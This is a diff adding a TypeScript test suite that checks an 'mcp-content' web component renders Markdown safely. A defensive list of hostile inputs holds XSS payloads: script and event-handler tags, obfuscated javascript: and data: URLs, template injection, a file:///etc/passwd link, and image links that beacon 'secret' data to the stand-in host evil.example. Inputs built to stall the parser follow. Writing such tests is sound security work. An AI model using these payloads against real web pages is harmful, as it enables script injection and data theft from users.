@@ -1,0 +1,131 @@
+import { assert } from 'chai';
+import '../../../packages/elements/src/content/define.ts';
+import type { McpContent } from '../../../packages/elements/src/content/content.ts';
+
+async function show(text: string): Promise<HTMLElement> {
+  const element: McpContent = document.createElement('mcp-content');
+  element.markdown = true;
+  element.content = { type: 'text', text };
+  document.body.append(element);
+  for (let attempt = 0; attempt < 400; attempt++) {
+    const found = element.shadowRoot?.querySelector<HTMLElement>('.markdown, .text');
+    if (found) return found;
+    await new Promise((resolve) => setTimeout(resolve, 10));
+  }
+  return assert.fail('nothing appeared');
+}
+
+const words = (shown: HTMLElement): string => shown.textContent.replace(/\s+/g, ' ').trim();
+const tags = (shown: HTMLElement): string[] => [...new Set([...shown.querySelectorAll('*')].map(({ localName }) => localName))].sort();
+
+/** What could load something, run something or lead somewhere. */
+const ACTIVE = ['a', 'img', 'image', 'svg', 'script', 'iframe', 'object', 'embed', 'style', 'link', 'form', 'input', 'video', 'audio', 'base', 'meta', 'math', 'template', 'details'];
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  'a <img src="https://evil.example/?q=1"> b',
+  '<svg onload=alert(1)><style>*{display:none}</style>',
+  '<iframe src="https://evil.example"></iframe>',
+  '![steal](https://evil.example/collect?data=secret)',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![x](javascript:alert(1))',
+  '[![nested](https://evil.example/a.png)](https://evil.example)',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\nscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x](vbscript:msgbox(1))',
+  '[x](file:///etc/passwd)',
+  '[x](blob:https://example.com/1)',
+  '[x](//evil.example)',
+  '[x](/relative)',
+  '[x][ref]\n\n[ref]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '[a](https://ok.example "onmouseover=alert(1)")',
+  '| a |\n| - |\n| <script>alert(1)</script> |',
+  '```html\n<script>alert(1)</script>\n```',
+  '`<script>alert(1)</script>`',
+  '- [ ] <input autofocus onfocus=alert(1)>',
+  '> <details open ontoggle=alert(1)>',
+  '# <a href="javascript:alert(1)">x</a>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
+];
+
+describe('Markdown in <mcp-content>', () => {
+  afterEach(() => document.body.replaceChildren());
+
+  it('is rendered: headings, lists, tables, code, emphasis', async () => {
+    const shown = await show('# Title\n\nSome **bold** and *slanted* `code`, 3 &lt; 4 &amp; 5.\n\n1. one\n2. two\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1 < 2;\n```\n\n> quoted');
+    assert.includeMembers(tags(shown), ['strong', 'em', 'code', 'ol', 'ul', 'li', 'table', 'th', 'td', 'pre', 'blockquote']);
+    assert.include(words(shown), 'Some bold and slanted code, 3 < 4 & 5.');
+    assert.equal(shown.querySelector('[role=heading]')?.textContent.trim(), 'Title');
+    assert.equal(shown.querySelector('pre')?.textContent, 'let x = 1 < 2;');
+  });
+
+  it('makes nothing of hostile text that loads, runs or leads astray [RE-11]', async () => {
+    const opened: string[] = [];
+    const open = window.open;
+    window.open = (url) => (opened.push(String(url)), null);
+    const before = performance.getEntriesByType('resource').length;
+    try {
+      for (const text of HOSTILE) {
+        const shown = await show(text);
+        assert.deepEqual(tags(shown).filter((tag) => ACTIVE.includes(tag)), [], text);
+        for (const element of shown.querySelectorAll('*')) assert.deepEqual(element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'href' || name === 'src' || name === 'style'), [], text);
+        for (const button of shown.querySelectorAll('button')) button.click();
+        document.body.replaceChildren();
+      }
+    } finally {
+      window.open = open;
+    }
+    assert.deepEqual([...new Set(opened.map((url) => new URL(url).protocol))], ['https:']);
+    assert.isEmpty(performance.getEntriesByType('resource').slice(before).map(({ name }) => name).filter((name) => name.includes('evil')));
+  });
+
+  it('shows HTML as text, and where each link and image would lead', async () => {
+    const shown = await show('<b>raw</b> [harmless](https://evil.example/login) ![chart](https://cdn.example/x.png) [mail](mailto:ada@example.com) [IDN](https://аpple.com)');
+    assert.include(words(shown), '<b>raw</b>');
+    assert.deepEqual([...shown.querySelectorAll('.place')].map(({ textContent }) => textContent), ['evil.example', 'ada@example.com', 'xn--pple-43d.com']);
+    assert.include(words(shown), 'Image “chart” from cdn.example, not loaded');
+  });
+
+  it('opens a link only when it is clicked, in a window that knows nothing of this one', async () => {
+    const opened: unknown[][] = [];
+    const open = window.open;
+    window.open = (...args) => (opened.push(args), null);
+    try {
+      const shown = await show('[there](https://example.com/a)');
+      assert.isEmpty(opened);
+      shown.querySelector('button')?.click();
+    } finally {
+      window.open = open;
+    }
+    assert.deepEqual(opened, [['https://example.com/a', '_blank', 'noopener,noreferrer']]);
+  });
+
+  for (const text of ['> '.repeat(5_000), '- '.repeat(5_000), '['.repeat(20_000), '*a '.repeat(9_000), `${'`'.repeat(9_999)} x`, '[a]('.repeat(6_000), '|'.repeat(29_000), '<'.repeat(29_000), '!['.repeat(14_000), '_'.repeat(29_000), 'x'.repeat(1_000_000), '~~a'.repeat(9_000), '\\'.repeat(29_000), `${'a@'.repeat(14_000)}`, 'http://'.repeat(4_000), 'a_'.repeat(14_000)]) {
+    it(`gives up on text that is made to take long, and shows it plain: ${text.slice(0, 8)} …`, async () => {
+      const at = performance.now();
+      await show(text);
+      assert.isBelow(performance.now() - at, 5_000);
+    });
+  }
+
+  it('leaves a paragraph plain that is too long to be one, and renders the others', async () => {
+    const shown = await show(`**${'no '.repeat(2_000)}**\n\n**yes**`);
+    assert.equal(shown.querySelectorAll('strong').length, 1);
+    assert.include(words(shown), 'no no no');
+  });
+
+  it('is what a page asks for: without it text stays text', async () => {
+    const element = document.createElement('mcp-content');
+    element.content = { type: 'text', text: '**no**' };
+    document.body.append(element);
+    await element.updateComplete;
+    assert.equal(element.shadowRoot?.querySelector('.text')?.textContent, '**no**');
+  });
+});
